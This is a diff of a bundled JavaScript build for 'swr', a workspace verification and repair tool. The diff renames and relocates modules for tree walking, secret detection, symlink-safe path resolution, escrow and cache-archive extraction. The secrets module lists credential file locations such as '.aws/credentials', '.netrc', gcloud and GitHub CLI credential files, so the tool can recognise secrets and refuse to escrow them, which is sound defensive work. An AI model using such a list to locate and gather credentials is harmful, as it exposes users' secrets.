@@ -4439,11 +4718,11 @@ function walk_walkTree(root, ignore, exclude = new Set()) {
     return { records, files, unreadable };
 }
 /** The content digest, given each file's sha256 and each link's target (by record index). */
-function walk_contentDigest(records, extra) {
+function contentDigest(records, extra) {
     return digestLines(records, (r, i) => contentLine(metaFields(r.rel, r.type, r.size, r.mode), extra[i] ?? ''));
 }
 /** Link targets for the link records (readlink never follows). */
-function walk_linkTargets(root, records) {
+function linkTargets(root, records) {
     return records.map(r => {
         if (r.type !== TYPE.link)
             return undefined;
@@ -4471,7 +4750,7 @@ function lazyDigests(walk, knownMeta) {
         },
         pre: walk.pre,
         get metaDigest() {
-            meta ??= walk.pre?.meta ?? knownMeta?.() ?? walk_metaDigestOf(walk.records);
+            meta ??= walk.pre?.meta ?? knownMeta?.() ?? metaDigestOf(walk.records);
             return meta;
         },
         get stamp() {
@@ -4503,7 +4782,7 @@ function cacheValue(r, sha256) {
     return cacheText(ident(r), r.size, sha256);
 }
 
-;// CONCATENATED MODULE: ./src/core/verify/specials.ts
+;// CONCATENATED MODULE: ./src/core/walk/specials.ts
 /**
  * Special files in trees: anything but a file, directory or symlink (devices, FIFOs, sockets).
  * The walk's lines give them a type letter and a mode only, so a device swapped for another of
@@ -4544,7 +4823,7 @@ function specialKind(st) {
  * The kind of each special record, by record index (undefined for the rest); a special file gone
  * since the walk is 'missing', which matches no recorded kind.
  */
-function specials_specialKinds(root, records) {
+function specialKinds(root, records) {
     return records.map(r => {
         if (r.type !== TYPE.other)
             return undefined;
@@ -4553,7 +4832,7 @@ function specials_specialKinds(root, records) {
     });
 }
 /** The digest of the special lines in walk order, or undefined when there is no special file. */
-function specials_specialDigest(records, kinds) {
+function specialDigest(records, kinds) {
     let text = '';
     records.forEach((r, i) => {
         const kind = kinds[i];
@@ -4570,7 +4849,7 @@ function specials_specialDigest(records, kinds) {
 // EXTERNAL MODULE: external "node:zlib"
 var external_node_zlib_ = __webpack_require__(8522);
 var external_node_zlib_default = /*#__PURE__*/__webpack_require__.n(external_node_zlib_);
-;// CONCATENATED MODULE: ./src/core/verify/tree-index.ts
+;// CONCATENATED MODULE: ./src/core/walk/tree-index.ts
 /**
  * The per-file index of a tree: a sidecar file beside the manifest (gzip'd JSON lines: relpath,
  * type, mode, size, sha256, link target or a special file's kind). The manifest holds the sidecar's sha256, so the index
@@ -4608,18 +4887,18 @@ function indexBudget(entries) {
 }
 const LIST_LIMIT = 20;
 /** Where the index of tree `id` lives for the manifest at `manifestFile`. */
-function indexPath(manifestFile, id) {
+function tree_index_indexPath(manifestFile, id) {
     return external_node_path_default().join(external_node_path_default().dirname(manifestFile), 'trees', `${id}.index.gz`);
 }
-function tree_index_encodeIndex(records) {
+function encodeIndex(records) {
     const lines = [
         HEADER,
         ...records.map(r => JSON.stringify([r.rel, r.type, r.mode, r.size, r.extra ?? null]))
     ];
-    return gzipSync(lines.join('\n') + '\n', { level: 6 });
+    return (0,external_node_zlib_.gzipSync)(lines.join('\n') + '\n', { level: 6 });
 }
-function tree_index_indexRef(bytes, entries) {
-    return { sha256: createHash('sha256').update(bytes).digest('hex'), entries };
+function indexRef(bytes, entries) {
+    return { sha256: (0,external_node_crypto_.createHash)('sha256').update(bytes).digest('hex'), entries };
 }
 /** Read an index and check it against the manifest; undefined when absent, altered or unreadable. */
 function readIndex(file, ref) {
@@ -4714,7 +4993,7 @@ function diffIndex(recorded, now, nowExtra) {
     };
 }
 
-;// CONCATENATED MODULE: ./src/core/verify/find-lines.ts
+;// CONCATENATED MODULE: ./src/core/walk/native/find-lines.ts
 /**
  * find's output as lines, indexed and re-sorted into the Node walker's order. find prints each
  * directory in readdir order, one start point after another; the walk (walk-format.mjs) visits
@@ -4937,7 +5216,7 @@ function splitBatch(bytes, batch, roots, texts) {
     return at === l.count;
 }
 
-;// CONCATENATED MODULE: ./src/core/verify/native-walk.ts
+;// CONCATENATED MODULE: ./src/core/walk/native/native-walk.ts
 /**
  * The digest-line walk of large trees delegated to GNU find, when this machine has it. Measured
  * here on a 60,000-file tree, two find processes (C, fstatat relative to an open directory) emit
@@ -5017,6 +5296,8 @@ let listening = false;
 /** Runs `fn` if the process exits before the returned release is called. */
 function untilDone(fn) {
     if (!listening) {
+        // Until the shells run an exit hook of the core, this removes find's temp files on process.exit.
+        // eslint-disable-next-line no-restricted-properties
         process.on('exit', () => {
             for (const f of atExit)
                 f();
@@ -5202,7 +5483,7 @@ function assemble(l, top, subtrees, raw) {
     return { digest: h.digest('hex'), files, unreadable: [], raw };
 }
 
-;// CONCATENATED MODULE: ./src/core/verify/walk-workers.ts
+;// CONCATENATED MODULE: ./src/core/walk/walk-workers.ts
 /**
  * The walk on worker threads: the main thread lists the tree's upper levels (splitTop) and walk
  * workers (hash-kernel.mjs) walk the directories below them, each in walk-format.mjs's order and
@@ -5318,7 +5599,7 @@ async function walkInWorkers(root, split, ignore, exclude, opts) {
                     cached = Buffer.from(`,${JSON.stringify(rec.rel)}:${JSON.stringify(cacheValue(rec, sha))}`);
             }
             else if (rec.type === TYPE.link)
-                extra = walk_linkTargets(root, [rec])[0];
+                extra = linkTargets(root, [rec])[0];
             content = contentLine(metaFields(rec.rel, rec.type, rec.size, rec.mode), extra ?? '');
         }
         return { meta: walk_metaLine(rec), stamp: walk_stampLine(rec), content, sha, cached };
@@ -5472,7 +5753,7 @@ function inWorkers(role, roots, ignore, exclude, jobs) {
     }).then(() => results);
 }
 
-;// CONCATENATED MODULE: ./src/core/verify/walk-strategy.ts
+;// CONCATENATED MODULE: ./src/core/walk/walk-strategy.ts
 /**
  * Which walker walks a tree. Every walker gives the same lines in the same order (walk-format.mjs),
  * so the choice is about speed only: GNU find (native-walk.ts) for the record-less digests of a
@@ -5547,7 +5828,7 @@ async function walkTreeParallel(root, ignore, exclude, opts) {
     // here is not held up by the files of the levels below (~130 on the bench's src/, ~15 ms).
     const split = jobs < 2 ? undefined : splitTop(root, ignore, exclude, threads > 1 ? MIN_ROOTS : 1);
     if (!split)
-        return walk_walkTree(root, ignore, exclude);
+        return walkTree(root, ignore, exclude);
     return walkInWorkers(root, split, ignore, exclude, { hash: opts.hash, jobs: threads });
 }
 
@@ -5587,9 +5868,9 @@ function judgeSpecials(e, ctx, f) {
     if (loc.state !== 'present')
         return f;
     const root = external_node_fs_default().realpathSync(loc.abs);
-    const walk = walk_walkTree(root, e.ignore, ctx.exclude);
-    const kinds = specials_specialKinds(root, walk.records);
-    const digest = specials_specialDigest(walk.records, kinds);
+    const walk = walkTree(root, e.ignore, ctx.exclude);
+    const kinds = specialKinds(root, walk.records);
+    const digest = specialDigest(walk.records, kinds);
     if (digest === e.expect.special_digest)
         return f;
     const index = ctx.readIndex(e.id, e.expect.index);
@@ -5673,7 +5954,7 @@ async function judgeFromDigest(e, ctx, root, cachedTree, recorded) {
         (want.meta_digest !== undefined && metaDigest !== want.meta_digest))
         return undefined;
     let full;
-    const records = () => (full ??= walk_walkTree(root, e.ignore, ctx.exclude));
+    const records = () => (full ??= walkTree(root, e.ignore, ctx.exclude));
     const walk = {
         get records() {
             return records().records;
@@ -5699,9 +5980,9 @@ function tree_diffIndex(recorded, now, nowExtra) {
     return {
         ...d,
         diff: {
-            missing: missing.map(byte_names_shownName),
-            extra: extra.map(byte_names_shownName),
-            changed: changed.map(c => ({ path: byte_names_shownName(c.path), what: byte_names_shownName(c.what) })),
+            missing: missing.map(shownName),
+            extra: extra.map(shownName),
+            changed: changed.map(c => ({ path: shownName(c.path), what: shownName(c.what) })),
             counts
         }
     };
@@ -5743,7 +6024,7 @@ function judgeStructure(e, ctx, root, walk, recorded, found) {
     for (const s of checkSentinels(root, want.sentinels))
         add('sentinel', s);
     if (walk.unreadable.length > 0) {
-        const shown = walk.unreadable.map(u => `${byte_names_shownName(u.rel)} (${u.code})`);
+        const shown = walk.unreadable.map(u => `${shownName(u.rel)} (${u.code})`);
         add('unreadable', `unreadable: ${shown.join(', ')}`);
     }
     if (walk.files < want.min_files)
@@ -5819,7 +6100,7 @@ function planContentHash(e, ctx, root, walk, recorded, found, early) {
         };
     }
     const known = ctx.cache.treeFiles(e.id);
-    const shas = walk_linkTargets(root, walk.records);
+    const shas = linkTargets(root, walk.records);
     const jobs = [];
     const jobIndex = [];
     walk.records.forEach((r, i) => {
@@ -5846,11 +6127,11 @@ function planContentHash(e, ctx, root, walk, recorded, found, early) {
             results.forEach((res, k) => {
                 const i = jobIndex[k] ?? 0;
                 if ('error' in res)
-                    unreadable.push(byte_names_shownName(walk.records[i]?.rel ?? '?'));
+                    unreadable.push(shownName(walk.records[i]?.rel ?? '?'));
                 else
                     shas[i] = res.sha256;
             });
-            const digest = walk_contentDigest(walk.records, shas);
+            const digest = contentDigest(walk.records, shas);
             const files = new Map();
             walk.records.forEach((r, i) => {
                 if (r.type === 'f' && shas[i])
@@ -5892,7 +6173,7 @@ function judgeContent(e, ctx, root, walk, digest, shas, recorded, found, cached)
 }
 /** Link targets and the hashes the walk made, by record index (for a diff). */
 function walkExtras(root, walk) {
-    const extras = walk_linkTargets(root, walk.records);
+    const extras = linkTargets(root, walk.records);
     const shas = walk.shas ?? [];
     walk.records.forEach((r, i) => {
         if (r.type === 'f')
@@ -5902,7 +6183,7 @@ function walkExtras(root, walk) {
 }
 /** Recompute per-file hashes synchronously (only on a cached mismatch, which is rare). */
 function contentExtras(root, walk) {
-    const extras = walk_linkTargets(root, walk.records);
+    const extras = linkTargets(root, walk.records);
     walk.records.forEach((r, i) => {
         if (r.type !== 'f')
             return;
@@ -5967,7 +6248,7 @@ async function verifyEntries(entries, ctx, pool = {}) {
     // are wanted by the tree walks meanwhile.
     const big = earlyJobs.filter(j => j.cost >= INLINE_BYTES).length;
     const earlyHashed = earlyJobs.length > 0
-        ? hash_pool_hashAll(earlyJobs, { ...pool, maxWorkers: Math.max(1, big) })
+        ? hashAll(earlyJobs, { ...pool, maxWorkers: Math.max(1, big) })
         : Promise.resolve([]);
     // Not left unhandled while the trees are walked: it is awaited below.
     earlyHashed.catch(() => undefined);
@@ -5976,7 +6257,7 @@ async function verifyEntries(entries, ctx, pool = {}) {
             inspected[i] = await inspect(e, ctx);
     const late = inspected.filter(p => isPending(p) && !early.includes(p));
     const lateJobs = late.flatMap(p => p.jobs);
-    const lateHashed = lateJobs.length > 0 ? await hash_pool_hashAll(lateJobs, pool) : [];
+    const lateHashed = lateJobs.length > 0 ? await hashAll(lateJobs, pool) : [];
     // A thread that ends now ends while a blob may still hash here, not during the exit (~15 ms).
     if (pool.lastHashing)
         void endIdleKernelThreads();
@@ -5991,7 +6272,7 @@ async function verifyEntries(entries, ctx, pool = {}) {
     return inspected.map(i => (isPending(i) ? judged.get(i) : i));
 }
 
-;// CONCATENATED MODULE: ./src/core/verify/selection.ts
+;// CONCATENATED MODULE: ./src/core/engine/selection.ts
 /**
  * Checking a selection of entries: select them, verify them through one hash pool and the
  * incremental cache, and make the report of what was found. Read-only: no recipe, smoke command or ldd runs, and nothing in the
@@ -6006,19 +6287,9 @@ async function verifyEntries(entries, ctx, pool = {}) {
 
 
 
-/** The entries `only` names, in manifest order; an unknown id is a usage error. */
-function selection_selectEntries(entries, only) {
-    if (!only || only.length === 0)
-        return [...entries];
-    const known = new Set(entries.map(e => e.id));
-    const unknown = only.filter(id => !known.has(id));
-    if (unknown.length > 0)
-        throw new errors_UsageError(`--only: no entry with id ${unknown.map(u => `"${u}"`).join(', ')}`);
-    const wanted = new Set(only);
-    return entries.filter(e => wanted.has(e.id));
-}
+
 function entryDigests(entries) {
-    return new Map(entries.map(e => [e.id, (0,external_node_crypto_.createHash)('sha256').update(canonical_canonicalBytes(e)).digest('hex')]));
+    return new Map(entries.map(e => [e.id, (0,external_node_crypto_.createHash)('sha256').update(canonicalBytes(e)).digest('hex')]));
 }
 /** The verification context for `entries` of `m`: cache, exclusions, index reader. */
 function verifyContext(m, entries, opts) {
@@ -6034,7 +6305,7 @@ function verifyContext(m, entries, opts) {
             read: opts.cache !== false
         }),
         exclude: ownPaths(m.file, opts.stateDir),
-        readIndex: (id, ref) => readIndex(indexPath(m.file, id), ref),
+        readIndex: (id, ref) => readIndex(tree_index_indexPath(m.file, id), ref),
         nativeWalk: opts.nativeWalk
     };
 }
@@ -6042,7 +6313,7 @@ function verifyContext(m, entries, opts) {
 async function verifySelection(m, opts) {
     const started = new Date();
     const t0 = performance.now();
-    const entries = selection_selectEntries(m.body.entries, opts.only);
+    const entries = select_selectEntries(m.body.entries, opts.only);
     const known = opts.known ?? new Map();
     const todo = entries.filter(e => !known.has(e.id));
     const fresh = await verifyEntries(todo, verifyContext(m, todo, opts), {
@@ -6085,10 +6356,10 @@ async function checkManifest(m, opts) {
 }
 /** Verify `entries` as if the workspace were `root` (a scratch copy), uncached. */
 function scratchVerifier(m, opts) {
-    return (root, entries) => reverifier({ ...m, workspace: root }, opts)(entries);
+    return (root, entries) => selection_reverifier({ ...m, workspace: root }, opts)(entries);
 }
 /** Verify `entries` afresh (no cached hashes), as repair does after each step. */
-function reverifier(m, opts) {
+function selection_reverifier(m, opts) {
     return entries => verifyEntries(entries, verifyContext(m, entries, { ...opts, cache: false }), {
         jobs: opts.jobs
     });
@@ -6151,7 +6422,7 @@ async function check(m, opts) {
     }
     let lookup;
     if (opts.cacheLookup)
-        lookup = await lookupSavedStates(m, selection_selectEntries(m.body.entries, opts.only), opts.cacheLookup);
+        lookup = await lookupSavedStates(m, select_selectEntries(m.body.entries, opts.only), opts.cacheLookup);
     const report = reportOf(m, checked, opts);
     return {
         kind: 'check',
@@ -6225,9 +6496,84 @@ function outcomeOfError(exitCode) {
     return { status: 'error', exitCode };
 }
 
+;// CONCATENATED MODULE: ./src/core/fs/disk-space.ts
+/**
+ * Whether a directory's filesystem has run out of room. A recipe that fails on a full disk fails
+ * with its own words ("No space left on device") and exit status, which say nothing swr can read;
+ * the repair then asks the filesystem. A run that could not write is exit 74 and one line, as for
+ * every write swr makes itself, never "unrepairable" (the entry is repairable with room).
+ */
+
+
+/** Below this much room for unprivileged writes, a failed write is taken to be the disk's doing. */
+const NEARLY_FULL_BYTES = 64 * 1024;
+/** A one-line error when `dir`'s filesystem has less than NEARLY_FULL_BYTES left, else undefined. */
+function diskFull(dir) {
+    let st;
+    try {
+        st = external_node_fs_default().statfsSync(dir);
+    }
+    catch {
+        return undefined;
+    }
+    if (st.bavail * st.bsize >= NEARLY_FULL_BYTES)
+        return undefined;
+    const inodes = st.files > 0 && st.ffree === 0;
+    return new errors_SwrError(`cannot write ${dir}: ${inodes ? 'no free inodes left on the device' : 'no space left on the device'} (ENOSPC)`, errors_EXIT.WRITE_FAILED);
+}
+
+;// CONCATENATED MODULE: ./src/core/restore/plan.ts
+
+function plan_planSteps(plan) {
+    return plan.waves.flat();
+}
+/**
+ * Plan the repair of every damaged finding (status other than OK and SKIPPED). `savedState`: an
+ * Actions cache is reachable, so each step also lists the saved state the runner will try.
+ */
+function plan_planRepair(entries, findings, opts = {}) {
+    const damaged = new Map(findings.filter(f => f.status !== 'OK' && f.status !== 'SKIPPED').map(f => [f.id, f]));
+    const order = new Map(entries.map((e, i) => [e.id, i]));
+    const todo = entries.filter(e => damaged.has(e.id));
+    const after = new Map(todo.map(e => [e.id, e.needs.filter(n => damaged.has(n))]));
+    const done = new Set();
+    const waves = [];
+    let remaining = todo;
+    while (remaining.length > 0) {
+        const ready = remaining.filter(e => (after.get(e.id) ?? []).every(n => done.has(n)));
+        if (ready.length === 0) {
+            // Validation refuses cycles before planning; reaching here is a bug, not a user error.
+            throw new Error(`plan: no runnable step among ${remaining.map(e => e.id).join(', ')}`);
+        }
+        const tier = Math.min(...ready.map(e => e.tier));
+        const wave = ready
+            .filter(e => e.tier === tier)
+            .sort((a, b) => (order.get(a.id) ?? 0) - (order.get(b.id) ?? 0))
+            .map((e) => {
+            const sources = sourcesOf(e, opts);
+            const saved = sources.find(s => s.kind === 'cache' && s.savedState);
+            return {
+                id: e.id,
+                path: e.path,
+                tier: e.tier,
+                source: sources[0]?.kind ?? 'none',
+                sources: sources.map(s => s.kind),
+                ...(saved?.kind === 'cache' ? { saved_state: saved.key } : {}),
+                after: after.get(e.id) ?? [],
+                reason: `${damaged.get(e.id)?.status ?? 'DAMAGED'}: ${damaged.get(e.id)?.detail ?? ''}`
+            };
+        });
+        for (const s of wave)
+            done.add(s.id);
+        waves.push(wave);
+        remaining = remaining.filter(e => !done.has(e.id));
+    }
+    return { waves };
+}
+
 // EXTERNAL MODULE: ./node_modules/p-limit/index.js + 1 modules
 var p_limit = __webpack_require__(370);
-;// CONCATENATED MODULE: ./src/core/secrets.ts
+;// CONCATENATED MODULE: ./src/core/capture/secrets.ts
 /**
  * Which files hold secrets. A secret is tracked by hash only (a tier-0 file entry: its loss is
  * noticed and named) and never escrowed: escrowed bytes travel inside the manifest, which is
@@ -6251,7 +6597,7 @@ var p_limit = __webpack_require__(370);
 /** The note a secret's entry carries when it was added without one. */
 const secrets_SECRET_NOTE = 'secret: tracked by hash only and never escrowed; restore it from where it was issued';
 /** Bytes read from the head of a file to judge its content. */
-const SNIFF_BYTES = (/* unused pure expression or super */ null && (64 * 1024));
+const SNIFF_BYTES = 64 * 1024;
 /** File names that are credentials wherever they are. */
 const SECRET_NAMES = new Set([
     '.netrc',
@@ -6273,14 +6619,14 @@ const SECRET_NAMES = new Set([
 /** Extensions of key and certificate-bundle files. */
 const SECRET_EXTENSIONS = /\.(pem|key|p12|pfx|jks|keystore|ppk)$/i;
 /** Paths (relative, ending a manifest path) that are credentials in one tool's directory. */
-const SECRET_SUFFIXES = (/* unused pure expression or super */ null && ([
+const SECRET_SUFFIXES = [
     '.codex/auth.json',
     'gh/hosts.yml',
     '.aws/credentials',
     '.cargo/credentials',
     'gcloud/credentials.db',
     'gcloud/application_default_credentials.json'
-]));
+];
 /** Directories whose every file is secret. */
 const SECRET_DIRS = new Set(['.gnupg']);
 /** What may sit in ~/.ssh without being a private key. */
@@ -6309,21 +6655,21 @@ function secretContent(bytes, scan = ownSecretScan, rel) {
     const text = Buffer.from(bytes.buffer, bytes.byteOffset, bytes.byteLength).toString('latin1');
     if (PRIVATE_KEY_HEADER.test(text))
         return 'holds a private key';
-    if (hasTokenShape(text))
+    if (scrub_hasTokenShape(text))
         return 'holds a token or a password';
     const rules = [...new Set(scan(text, rel).map(f => f.rule))];
     return rules.length > 0 ? `holds a secret (${rules.join(', ')})` : undefined;
 }
 /** The first `max` bytes of a regular file, read without following a symlink. */
 function readHead(abs, max = SNIFF_BYTES) {
-    const fd = fs.openSync(abs, fs.constants.O_RDONLY | fs.constants.O_NOFOLLOW | fs.constants.O_NONBLOCK);
+    const fd = external_node_fs_default().openSync(abs, (external_node_fs_default()).constants.O_RDONLY | (external_node_fs_default()).constants.O_NOFOLLOW | (external_node_fs_default()).constants.O_NONBLOCK);
     try {
-        if (!fs.fstatSync(fd).isFile())
+        if (!external_node_fs_default().fstatSync(fd).isFile())
             return Buffer.alloc(0);
         const buf = Buffer.alloc(max);
         let got = 0;
         while (got < max) {
-            const n = fs.readSync(fd, buf, got, max - got, got);
+            const n = external_node_fs_default().readSync(fd, buf, got, max - got, got);
             if (n === 0)
                 break;
             got += n;
@@ -6331,20 +6677,20 @@ function readHead(abs, max = SNIFF_BYTES) {
         return buf.subarray(0, got);
     }
     finally {
-        fs.closeSync(fd);
+        external_node_fs_default().closeSync(fd);
     }
 }
 function realOrResolved(p) {
     try {
-        return fs.realpathSync(p);
+        return external_node_fs_default().realpathSync(p);
     }
     catch {
-        return path.resolve(p);
+        return external_node_path_default().resolve(p);
     }
 }
 /** Why the file is a secret, in a few words, or undefined when it is not one. */
-function secrets_secretReason(q) {
-    if (q.abs && q.stateDir && isInside(realOrResolved(q.stateDir), realOrResolved(q.abs)))
+function secretReason(q) {
+    if (q.abs && q.stateDir && inside_isInside(realOrResolved(q.stateDir), realOrResolved(q.abs)))
         return "is in swr's state directory";
     if (secrets_isSecretPath(q.rel))
         return 'is a credential by name';
@@ -6360,7 +6706,7 @@ function secrets_secretReason(q) {
     return bytes ? secretContent(bytes, q.scan, q.rel) : undefined;
 }
 
-;// CONCATENATED MODULE: ./src/core/no-follow.ts
+;// CONCATENATED MODULE: ./src/core/fs/no-follow.ts
 /**
  * Resolving a path below a trusted directory without following a symlink in any component: the
  * rule for every place swr writes, deletes or copies (selftest's scratch copy, quarantine, canary
@@ -6372,7 +6718,7 @@ function secrets_secretReason(q) {
 
 
 
-class SymlinkRefusal extends Error {
+class no_follow_SymlinkRefusal extends Error {
     component;
     constructor(
     /** The offending component, relative to the trusted directory. */
@@ -6387,12 +6733,12 @@ class SymlinkRefusal extends Error {
  * be a real directory. Missing components end the walk (the path cannot lead anywhere yet)
  * unless `mkdir` creates them. Throws SymlinkRefusal naming a symlinked or non-directory part.
  */
-function resolveNoFollow(root, rel, opts = {}) {
+function no_follow_resolveNoFollow(root, rel, opts = {}) {
     if (rel === '.' || rel === '')
         return root;
     const segs = rel.split('/');
     if (segs.some(s => s === '..' || s === ''))
-        throw new SymlinkRefusal(rel, 'is not a plain path');
+        throw new no_follow_SymlinkRefusal(rel, 'is not a plain path');
     let dir = root;
     for (let i = 0; i < segs.length - 1; i++) {
         dir = external_node_path_default().join(dir, segs[i]);
@@ -6405,16 +6751,16 @@ function resolveNoFollow(root, rel, opts = {}) {
         if (!st)
             return external_node_path_default().join(root, ...segs);
         if (st.isSymbolicLink())
-            throw new SymlinkRefusal(shown, 'is a symlink; not following it');
+            throw new no_follow_SymlinkRefusal(shown, 'is a symlink; not following it');
         if (!st.isDirectory())
-            throw new SymlinkRefusal(shown, 'is not a directory');
+            throw new no_follow_SymlinkRefusal(shown, 'is not a directory');
     }
     return external_node_path_default().join(dir, segs[segs.length - 1]);
 }
 /** `abs` (below `root`) as a path relative to it, or undefined when it is not below it. */
-function relativeInside(root, abs) {
+function no_follow_relativeInside(root, abs) {
     const a = external_node_path_default().resolve(abs);
-    if (!paths_isInside(root, a))
+    if (!inside_isInside(root, a))
         return undefined;
     return external_node_path_default().relative(root, a).split((external_node_path_default()).sep).join('/') || '.';
 }
@@ -6424,7 +6770,7 @@ function relativeInside(root, abs) {
  * climb above `root`. A ".." after a named segment is judged unsafe, because the name may itself
  * be a link whose parent is elsewhere; an absolute target is unsafe wherever it points.
  */
-function linkStaysInside(root, linkAbs, target) {
+function no_follow_linkStaysInside(root, linkAbs, target) {
     if (target === '' || external_node_path_default().isAbsolute(target) || target.includes('\0'))
         return false;
     const segs = target.split('/').filter(s => s !== '' && s !== '.');
@@ -6432,10 +6778,10 @@ function linkStaysInside(root, linkAbs, target) {
     const named = firstNamed < 0 ? [] : segs.slice(firstNamed);
     if (named.includes('..'))
         return false;
-    return paths_isInside(root, external_node_path_default().resolve(external_node_path_default().dirname(linkAbs), ...segs));
+    return inside_isInside(root, external_node_path_default().resolve(external_node_path_default().dirname(linkAbs), ...segs));
 }
 
-;// CONCATENATED MODULE: ./src/core/escrow.ts
+;// CONCATENATED MODULE: ./src/core/capture/escrow.ts
 /**
  * Escrow: small files carried inside the (signed) manifest, so they can be restored without a
  * recipe. Bytes are escrowed only after they match the recorded sha256, and restored only after
@@ -6459,7 +6805,7 @@ function linkStaysInside(root, linkAbs, target) {
 
 
 
-const escrow_ESCROW_MAX_BYTES = (/* unused pure expression or super */ null && (256 * 1024));
+const escrow_ESCROW_MAX_BYTES = 256 * 1024;
 function refuse(e, why) {
     return new errors_SwrError(`${e.id}: escrow ${why}`, errors_EXIT.UNREPAIRABLE);
 }
@@ -6479,10 +6825,10 @@ async function captureEscrow(workspace, e, maxBytes = escrow_ESCROW_MAX_BYTES, s
     if (e.expect.size > maxBytes)
         throw refuse(e, `skipped: ${e.expect.size} bytes is over the ${maxBytes}-byte limit`);
     const abs = resolveEntryPath(workspace, e.path);
-    const fd = fs.openSync(abs, fs.constants.O_RDONLY | fs.constants.O_NOFOLLOW | fs.constants.O_NONBLOCK);
+    const fd = external_node_fs_default().openSync(abs, (external_node_fs_default()).constants.O_RDONLY | (external_node_fs_default()).constants.O_NOFOLLOW | (external_node_fs_default()).constants.O_NONBLOCK);
     let bytes;
     try {
-        const st = fs.fstatSync(fd);
+        const st = external_node_fs_default().fstatSync(fd);
         if (!st.isFile())
             throw refuse(e, 'refused: not a regular file');
         if (st.size !== e.expect.size)
@@ -6490,25 +6836,25 @@ async function captureEscrow(workspace, e, maxBytes = escrow_ESCROW_MAX_BYTES, s
         bytes = Buffer.alloc(st.size);
         let got = 0;
         while (got < st.size) {
-            const n = fs.readSync(fd, bytes, got, st.size - got, got);
+            const n = external_node_fs_default().readSync(fd, bytes, got, st.size - got, got);
             if (n === 0)
                 break;
             got += n;
         }
     }
     finally {
-        fs.closeSync(fd);
+        external_node_fs_default().closeSync(fd);
     }
-    const scan = await loadSecretScan();
+    const scan = await secret_scan_loadSecretScan();
     const secret = secretReason({ rel: e.path, abs, bytes, scan, ...(stateDir ? { stateDir } : {}) });
     if (secret)
         throw secretRefusal(e, secret);
-    const sha = createHash('sha256').update(bytes).digest('hex');
+    const sha = (0,external_node_crypto_.createHash)('sha256').update(bytes).digest('hex');
     if (sha !== e.expect.sha256)
         throw refuse(e, 'refused: the file on disk does not match its recorded sha256');
     return {
         encoding: 'deflate-base64',
-        data: deflateRawSync(bytes, { level: 9 }).toString('base64')
+        data: (0,external_node_zlib_.deflateRawSync)(bytes, { level: 9 }).toString('base64')
     };
 }
 /** The escrowed bytes, checked against the recorded size and sha256 (bounded inflate). */
@@ -6534,10 +6880,10 @@ function escrowedBytes(e) {
 function safeParent(workspace, e) {
     let target;
     try {
-        target = resolveNoFollow(workspace, e.path, { mkdir: true });
+        target = no_follow_resolveNoFollow(workspace, e.path, { mkdir: true });
     }
     catch (err) {
-        if (err instanceof SymlinkRefusal)
+        if (err instanceof no_follow_SymlinkRefusal)
             throw refuse(e, `refused: ${err.message}`);
         throw err;
     }
@@ -6630,10 +6976,10 @@ function quarantine(workspace, stateDir, e, now, limits = {}) {
     const maxBytes = limits.maxBytes ?? QUARANTINE_MAX_BYTES;
     let abs;
     try {
-        abs = resolveNoFollow(workspace, e.path);
+        abs = no_follow_resolveNoFollow(workspace, e.path);
     }
     catch (err) {
-        if (err instanceof SymlinkRefusal)
+        if (err instanceof no_follow_SymlinkRefusal)
             return { skipped: `not copied: ${err.message}` };
         throw err;
     }
@@ -6698,7 +7044,7 @@ function pruneQuarantine(stateDir, now, limits = {}, keep) {
     return out;
 }
 
-;// CONCATENATED MODULE: ./src/core/restore/cache/rejected.ts
+;// CONCATENATED MODULE: ./src/core/archive/rejected.ts
 /** Why a cache archive was refused: one line, ready for the report (names are escaped by the caller). */
 class Rejected extends Error {
     constructor(message) {
@@ -6707,7 +7053,7 @@ class Rejected extends Error {
     }
 }
 
-;// CONCATENATED MODULE: ./src/core/restore/cache/tar-reader.ts
+;// CONCATENATED MODULE: ./src/core/archive/tar-reader.ts
 /**
  * A push parser for the tar archives the Actions cache holds (POSIX pax as `tar --posix` writes
  * them, plain ustar, and GNU long names). It only reads: every member is handed to a sink that
@@ -6972,7 +7318,7 @@ class TarReader {
     }
 }
 
-;// CONCATENATED MODULE: ./src/core/restore/cache/file-writer.mjs
+;// CONCATENATED MODULE: ./src/core/archive/file-writer.mjs
 // The file-writing thread of a cache extraction (see write-queue.ts). Plain JavaScript so the same
 // file runs as a worker_threads script from src/ (tests) and beside every bundle. It only creates
 // what the main thread already checked and proved: each file with O_CREAT|O_EXCL|O_NOFOLLOW inside
@@ -7035,7 +7381,7 @@ function run(batch) {
 
 if (external_node_worker_threads_.workerData?.swrFileWriter) external_node_worker_threads_.parentPort?.on('message', run)
 
-;// CONCATENATED MODULE: ./src/core/restore/cache/write-queue.ts
+;// CONCATENATED MODULE: ./src/core/archive/write-queue.ts
 /**
  * Creating extracted files on a thread of their own while the archive goes on streaming. Creating
  * tens of thousands of small files is mostly kernel time (open with O_CREAT, write, close); done
@@ -7061,7 +7407,7 @@ const BATCH_BYTES = 1024 * 1024;
 const MAX_BYTES = 32 * 1024 * 1024;
 /** Where the writer lives next to this module, in src/ and in every bundle alike. */
 function writerUrl() {
-    return new URL(/* asset import */ __webpack_require__(3439), __webpack_require__.b);
+    return new URL(/* asset import */ __webpack_require__(1220), __webpack_require__.b);
 }
 function failedWriting(label, code, message) {
     return new Rejected(`writing ${label} failed (${code}: ${message.split('\n')[0]})`);
@@ -7172,7 +7518,7 @@ class WriteQueue {
     }
 }
 
-;// CONCATENATED MODULE: ./src/core/restore/cache/extract.ts
+;// CONCATENATED MODULE: ./src/core/archive/extract.ts
 /**
  * Unpacking one entry's cache archive into a private scratch directory, member by member, under the
  * entry's signed expectations: every name must lie inside the entry's own path (as the cache client
@@ -7441,7 +7787,7 @@ class EntryExtractor {
             // below a link). Every link obeying it, any chain of them, through links extracted before
             // or after, can only end inside the entry, whereas a ".." after a name ("l/../..") climbs
             // from wherever that name leads.
-            if (!linkStaysInside(this.dest, at.abs, m.linkname))
+            if (!no_follow_linkStaysInside(this.dest, at.abs, m.linkname))
                 throw new Rejected(`link escapes the entry: ${shown(m.name)} -> ${shown(m.linkname)}`);
         }
         this.ensureParent(at.abs);
@@ -7757,9 +8103,39 @@ function place(workspace, from, target) {
     }
 }
 
+;// CONCATENATED MODULE: ./src/core/fs/scratch.ts
+/**
+ * Private scratch directories: made fresh (0700) below a base, clearing those a dead run left
+ * there, and removed even when what was restored into them took away write permission.
+ */
+
+
+
+/** Make a fresh 0700 scratch directory below `base`, clearing those a dead run left there. */
+function makeScratch(base, name) {
+    external_node_fs_default().mkdirSync(base, { recursive: true });
+    return leftovers_makeOwnedTemp(base, name);
+}
+/** Remove a scratch directory, even one holding directories restored without write permission. */
